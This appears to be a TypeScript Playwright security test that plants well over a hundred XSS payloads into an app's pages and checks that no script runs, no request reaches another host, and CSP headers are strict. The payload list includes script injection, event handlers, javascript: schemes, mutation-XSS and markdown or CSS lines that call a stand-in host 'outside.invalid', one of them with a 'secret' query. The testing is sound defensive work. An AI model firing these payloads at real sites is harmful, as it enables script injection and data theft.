/**
 * A37: hostile text in everything that is shown, in Chromium, against the production build: no script runs and nothing
 * is asked of another host, by a policy without unsafe-inline and unsafe-eval. Needs a production build.
 */
import { type BrowserContext, chromium } from '@playwright/test';
import { connect } from '#db/client.ts';
import { build } from '#engine/testing.ts';
import { findChromium } from '#scripts/lib/chromium.ts';
import { appRouter } from '#server/router.ts';
import { type Doors, openDoors } from './doors/rig.ts';
import type { Experiment } from './experiment.ts';

const HIT = 'parallax-hit';
const CALL = `console.log('${HIT}')`;
const OUT = 'http://outside.invalid/x';

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'marquee',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'style',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,<script>',
  'vbscript:',
  '&#106;avascript:',
];
const WHOLE = [
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `\${${CALL}}`,
  `{{constructor.constructor("${CALL}")()}}`,
  `<!--><script>${CALL}</script>-->`,
  `<script src=${OUT}></script>`,
  `<link rel=stylesheet href=${OUT}>`,
  `<style>@import '${OUT}';</style>`,
  `<style>*{background:url(${OUT})}</style>`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<base href=${OUT}>`,
  `<form action=${OUT}><input type=submit autofocus></form>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `![x](${OUT})`,
  `![x](${OUT}?q=secret "t")`,
  `<${OUT}>`,
  `[x]: ${OUT}\n![x][x]`,
  `<picture><source srcset=${OUT}><img src=${OUT}></picture>`,
  `<video poster=${OUT}></video>`,
  `<svg><use href="${OUT}#a"/></svg>`,
  `<svg><image href="${OUT}"/></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<div style="background:url(${OUT})">x</div>`,
  `<link rel=prefetch href=${OUT}>`,
  `<link rel=dns-prefetch href=//outside.invalid>`,
  `<object data=${OUT}></object>`,
];
const PAYLOADS: readonly string[] = [
  ...WHOLE,
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${CALL}>`)),
  ...SCHEMES.flatMap((scheme) => [
    `[press](${scheme}${CALL})`,
    `<a href="${scheme}${CALL}">press</a>`,
    `![image](${scheme}${CALL})`,
    `<iframe src="${scheme}${CALL}"></iframe>`,
  ]),
];

export const experiment: Experiment = {
  title:
    'Hostile text runs no script and reaches no other host, wherever it is shown; the policy is strict everywhere.',
  async measure(progress, { size }) {
    const payloads = size === 'short' ? PAYLOADS.filter((_, n) => n < 160) : PAYLOADS;
    await using doors = await openDoors();
    const pages = await plant(doors, payloads);
    progress(`${payloads.length} payloads planted, ${pages.length} pages to look at`);
    const path = findChromium();
    const browser = await chromium.launch(path ? { executablePath: path } : {});
    try {
      const context = await browser.newContext();
      await signIn(context, doors);
      const seen = await look(context, doors.url, pages);
      const headers = await checkHeaders(doors, [
        '/signin',
        '/api/health',
        ...['/api/audit', '/api/export/me', '/api/export/workspace'],
        '/icon.svg',
        '/nothing',
        ...pages,
      ]);
      for (const line of [...seen.lines.slice(0, 10), ...headers.slice(0, 10)]) progress(line);
      return [
        { name: 'payloads', value: payloads.length, least: 150 },
        { name: 'pages looked at', value: pages.length, least: 10 },
        { name: 'payloads seen as text', value: seen.shown, least: 100 },
        { name: 'scripts that ran', value: seen.hits, most: 0 },
        { name: 'requests to other hosts', value: seen.outside, most: 0 },
        { name: "things of the app's own that the policy stopped", value: seen.violations, most: 0 },
        { name: 'replies without the right headers', value: headers.length, most: 0 },
      ];
    } finally {
      await browser.close();
    }
  },
};

const line = (text: string): string => text.replace(/\s+/g, ' ').trim();

/** Everywhere that text of people, agents or runs is shown. The addresses to look at. */
async function plant({ sql, ada, ids }: Doors, payloads: readonly string[]): Promise<string[]> {
  const caller = await callerOf(ada);
  const pages: string[] = [];
  const perPattern = 45;
  for (let at = 0; at < payloads.length; at += perPattern) {
    const some = payloads.slice(at, at + perPattern);
    const notes = Object.fromEntries(
      some.map((text, n) => [
        `n${n}`,
        {
          text,
          position: { x: (n % 9) * 260, y: Math.floor(n / 9) * 160 },
          size: { width: 240, height: 140 },
        },
      ]),
    );
    const graph = {
      ...build().input('text').agent('ask', 'sentiment-vader', 'text').output('ask').pattern(),
      notes,
    };
    const { id } = await caller.patterns.create({
      name: line(some[0] ?? 'x').slice(0, 110),
      description: some[1] ?? '',
      graph,
    });
    pages.push(`/patterns/${id}`);
  }
  for (const [n, payload] of payloads.entries()) {
    await caller.patterns.create({ name: line(payload).slice(0, 110) });
    await sql`insert into approvals (id, workspace_id, run_id, node, key, question, answer_type, subject, on_timeout)
      select ${`apr_x${n}`}, workspace_id, run_id, node, ${`x${n}`}, ${payload}, answer_type,
        jsonb_set(subject, '{value}', to_jsonb(${payload}::text)), on_timeout from approvals where id = 'apr_ofada'`;
  }
  for (const payload of payloads.slice(0, 30)) {
    const name = line(payload).slice(0, 75);
    await caller.keys.create({ name, scopes: ['runs.read'], days: 1 });
    await caller.secrets.create({ name, value: payload.padEnd(8, 'x') }).catch(() => undefined);
  }
  const hostile = encodeURIComponent(payloads[0] ?? '');
  return [
    ...pages,
    ...['/patterns', '/approvals', '/agents', '/runs', '/dashboard', '/marketplace'],
    ...['/settings', '/settings/keys', '/settings/secrets', '/settings/audit', '/settings/members'],
    `/runs/run_ofada`,
    `/patterns/${ids.pattern}`,
    `/signin?error=${hostile}&callbackUrl=javascript:${CALL}`,
    `/patterns?q=${hostile}`,
    `/${hostile}`,
  ];
}

async function callerOf(ada: Doors['ada']) {
  const { db } = connect(process.env.DATABASE_URL ?? '', { max: 2 });
  return appRouter.createCaller({ db, principal: ada, requestId: 'a37' });
}

async function signIn(context: BrowserContext, { url, people }: Doors): Promise<void> {
  const [name = '', value = ''] = people.ada.split('=');
  await context.addCookies([{ name, value, url }]);
}

type Seen = { hits: number; outside: number; violations: number; shown: number; lines: string[] };

async function look(context: BrowserContext, url: string, pages: readonly string[]): Promise<Seen> {
  const seen: Seen = { hits: 0, outside: 0, violations: 0, shown: 0, lines: [] };
  await context.route(
    (asked) => asked.origin !== url && !['data:', 'blob:'].includes(asked.protocol),
    (route) => {
      seen.outside += 1;
      seen.lines.push(`outside: ${route.request().url()}`);
      return route.abort();
    },
  );
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    seen.hits += 1;
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.text() === HIT) seen.hits += 1;
    if (!/Content Security Policy/i.test(message.text())) return;
    seen.violations += 1;
    seen.lines.push(`${new URL(page.url()).pathname}: ${message.text().slice(0, 240)}`);
  });
  for (const path of pages) {
    await page.goto(url + path, { waitUntil: 'load' });
    // What React puts in after it has started counts as well.
    await page.waitForLoadState('networkidle', { timeout: 1_500 }).catch(() => {});
    const links = await page
      .locator('a[href]')
      .evaluateAll((all) => all.map((one) => one.getAttribute('href')));
    seen.hits += links.filter((href) => /^\s*(javascript|data|vbscript):/i.test(href ?? '')).length;
    seen.shown += ((await page.locator('body').textContent()) ?? '').split(HIT).length - 1;
  }
  return seen;
}

const NEEDED: readonly [string, RegExp][] = [
  ['content-security-policy', /script-src 'self' 'nonce-[\w+/=]{24}';/],
  ['x-content-type-options', /^nosniff$/],
  ['referrer-policy', /^same-origin$/],
  ['permissions-policy', /camera=\(\)/],
  ['cross-origin-opener-policy', /^same-origin$/],
  ['x-frame-options', /^DENY$/],
];

async function checkHeaders({ url, people }: Doors, paths: readonly string[]): Promise<string[]> {
  const wrong: string[] = [];
  const nonces = new Set<string>();
  for (const path of paths) {
    const reply = await fetch(url + path, { headers: { cookie: people.ada }, redirect: 'manual' });
    const policy = reply.headers.get('content-security-policy') ?? '';
    nonces.add(policy);
    if (/unsafe-(inline|eval)/.test(policy)) wrong.push(`${path}: ${policy}`);
    for (const [name, form] of NEEDED) {
      if (!form.test(reply.headers.get(name) ?? '')) wrong.push(`${path}: ${name}`);
    }
    await reply.body?.cancel();
  }
  if (nonces.size !== paths.length) wrong.push('a nonce was given twice');
  return wrong;
}
